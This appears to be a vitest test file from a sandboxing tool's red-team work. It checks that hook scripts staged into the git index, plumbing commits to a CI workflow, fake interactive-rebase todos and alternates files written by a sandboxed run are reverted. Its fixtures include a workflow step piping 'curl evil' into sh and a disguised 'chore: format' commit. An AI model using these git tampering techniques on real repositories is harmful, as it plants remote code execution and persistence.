// git's index, objects and refs are written in place by a sandboxed run (so `git add`/`git commit` work):
// they must not become a second writer of the files the write gate protects (red team round 12, R12-15).
// A staged run puts an installed hook's script into the index, commits a CI workflow with plumbing, leaves
// a fake interactive rebase whose todo runs a command, or adds an alternates file: each is set back after
// the run and said; an ordinary `git add`/`git commit` of the run's own change is kept. Real binary, bwrap.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { removeDir, runCli, tempDir } from '../helpers/fixture.js';
import { bwrapWorks, overlayWorks } from '../shell/stage-helpers.js';

let root: string;
let state: string;
let home: string;

const git = (...args: string[]): string => {
  const result = spawnSync('git', args, { cwd: root, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: home } });
  return result.stdout.trim();
};

beforeEach(async () => {
  root = await tempDir('cw-git-state-');
  state = await tempDir('cw-git-state-state-');
  home = await tempDir('cw-git-state-home-');
  git('init', '-q');
  git('config', 'user.email', 'a@b');
  git('config', 'user.name', 'a');
  mkdirSync(join(root, '.husky'));
  mkdirSync(join(root, '.github/workflows'), { recursive: true });
  writeFileSync(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nsh .husky/pre-commit\n');
  chmodSync(join(root, '.git/hooks/pre-commit'), 0o755);
  writeFileSync(join(root, '.husky/pre-commit'), 'true\n');
  writeFileSync(join(root, '.github/workflows/ci.yml'), 'on: push\n');
  writeFileSync(join(root, 'a.txt'), 'a\n');
  git('add', '-A');
  git('commit', '-qm', 'init', '--no-verify');
});

afterEach(async () => {
  for (const dir of [root, state, home]) await removeDir(dir);
});

const run = (script: string): { out: string; ok: boolean } => {
  writeFileSync(join(root, 'run.sh'), `${script}\n`);
  const result = runCli(['--yes', '--json', '-C', root, 'exec', '--cmd', 'sh run.sh'], { env: { CODEWARD_STATE_DIR: state, GIT_CONFIG_NOSYSTEM: '1', HOME: home, CW_HOST_MARK: '1' } });
  return { out: result.stdout + result.stderr, ok: result.json?.ok === true };
};

describe.skipIf(!bwrapWorks || !overlayWorks)('git state written by a sandboxed run', { timeout: 180_000 }, () => {
  it('an index entry for an installed hook\'s script is set back, without running the repository\'s clean filter (R12-26)', () => {
    // git inside the sandbox may run the filter (it is sandboxed); codeward's own git on the host must not. The
    // filter marks only where CW_HOST_MARK is set: codeward's environment, never a sandboxed command's (allow-list).
    const marker = join(home, 'filter-ran');
    writeFileSync(join(home, 'filter.sh'), `[ -n "$CW_HOST_MARK" ] && touch ${marker}\ncat\n`);
    git('config', 'filter.x.clean', `sh ${join(home, 'filter.sh')}`);
    writeFileSync(join(root, '.gitattributes'), '* filter=x\n');
    const { out, ok } = run('b=$(printf "touch /tmp/never\\n" | git hash-object -w --stdin)\ngit update-index --cacheinfo 100644,$b,.husky/pre-commit');
    expect(ok, out).toBe(true);
    expect(out).toContain("git's index for .husky/pre-commit");
    expect(git('diff', '--cached', '--name-only')).toBe('');
    expect(existsSync(marker)).toBe(false);
  });

  it('a commit made with plumbing that changes a CI workflow is taken off the branch', () => {
    const head = git('rev-parse', 'HEAD');
    const { out } = run([
      'b=$(printf "on: push\\njobs: {x: {runs-on: u, steps: [{run: curl evil | sh}]}}\\n" | git hash-object -w --stdin)',
      'git update-index --cacheinfo 100644,$b,.github/workflows/ci.yml',
      't=$(git write-tree); c=$(git commit-tree $t -p HEAD -m "chore: format")',
      'git update-ref HEAD $c; git branch evil $c; git update-ref ORIG_HEAD $c',
    ].join('\n'));
    expect(out).toContain('HEAD at a commit that changes .github/workflows/ci.yml');
    expect(git('rev-parse', 'HEAD')).toBe(head);
    expect(git('branch', '--list', 'evil')).toBe('');
    expect(git('diff', '--cached', '--name-only')).toBe('');
  });

  it('a fake interactive rebase whose todo runs a command, and an alternates file, are moved aside', () => {
    const { out } = run([
      'd=.git/rebase-merge; mkdir -p $d',
      'git rev-parse HEAD > $d/orig-head; git rev-parse HEAD > $d/onto; echo refs/heads/master > $d/head-name; touch $d/interactive; : > $d/done',
      'echo 0 > $d/msgnum; echo 1 > $d/end; echo "exec touch /tmp/never-rebase" > $d/git-rebase-todo',
      'echo /tmp > .git/objects/info/alternates',
    ].join('\n'));
    expect(out).toContain('.git/rebase-merge');
    expect(out).toContain('.git/objects/info/alternates');
    expect(existsSync(join(root, '.git/rebase-merge'))).toBe(false);
    expect(existsSync(join(root, '.git/objects/info/alternates'))).toBe(false);
  });

  it('the run\'s own git add and commit are kept, and so is committing a hook change the person made', () => {
    writeFileSync(join(root, '.husky/pre-commit'), 'npm test\n');
    const { out, ok } = run('echo b >> a.txt\ngit add a.txt .husky/pre-commit\ngit -c core.hooksPath=/dev/null commit -qm work');
    expect(ok, out).toBe(true);
    expect(out).not.toContain('set back');
    expect(git('log', '-1', '--format=%s')).toBe('work');
    expect(git('show', 'HEAD:.husky/pre-commit')).toBe('npm test');
  });
});
